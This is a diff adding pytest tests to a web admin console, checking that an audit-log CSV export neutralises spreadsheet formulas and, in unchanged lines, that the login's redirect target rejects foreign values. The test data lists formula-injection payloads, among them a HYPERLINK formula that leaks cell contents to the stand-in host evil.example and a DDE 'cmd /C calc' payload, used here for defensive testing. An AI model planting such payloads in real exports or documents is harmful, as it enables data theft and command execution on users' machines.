@@ -223,3 +223,34 @@ async def test_a_foreign_next_still_goes_to_the_dashboard(console):
     for value in ("//evil.example/", "https://evil.example/", "/administrator", "/admin\\..\\x", "javascript:x"):
         response = await admin.post("/admin/login", name="root", password=PASSWORD, next=value)
         assert response.code == 302 and response.headers["Location"] == "/admin", value
+
+
+# --- 5. formulas in the CSV export ---------------------------------------------------------------
+
+INJECTIONS = ['x;=HYPERLINK("http://evil.example/?"&A1,"open")', "a\t=1+2", "=cmd|' /C calc'!A0", "+1", "-1+2",
+              "@SUM(1)", "a,=1", 'a;"=1+1"', "a; -2", "a\r=3", "a\n@x"]
+SEPARATORS = re.compile(r"[,;\t\r\n]")
+
+
+@pytest.mark.gen_test(timeout=60)
+async def test_csv_export_neutralises_formulas_after_any_separator(console):
+    app, url, _ = await console(logged_in=False, server=PROXIED)
+    for i, name in enumerate(INJECTIONS):  # anyone can type a name: it becomes the `actor` of a failed login
+        assert (await From(url, f"203.0.113.{i + 1}").login(name=name, password="x")).code == 403
+    admin = Admin(url)
+    assert (await admin.login()).code == 302
+    (alice, bob) = await group_of(url, 2)
+    await admin.post("/admin/ban", session_id=session_of(app, alice), reason='ok;=HYPERLINK("x")', duration="600")
+    await app.audit.flush()
+
+    exported = await admin.get("/admin/audit/export.csv")
+    assert exported.code == 200
+    table = list(csv.reader(io.StringIO(exported.body.decode(), newline="")))
+    for row in table[1:]:
+        for cell in row:
+            assert cell[:1] not in ("\t", "\r"), cell
+            for part in SEPARATORS.split(cell):  # however a spreadsheet splits the cell
+                assert part.lstrip(' "')[:1] not in ("=", "+", "-", "@"), (cell, part)
+    actors = [row[3] for row in table[1:]]
+    assert "x;'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")" in actors  # still readable
+    assert any("HYPERLINK" in row[5] for row in table[1:])  # the ban reason, in `details`
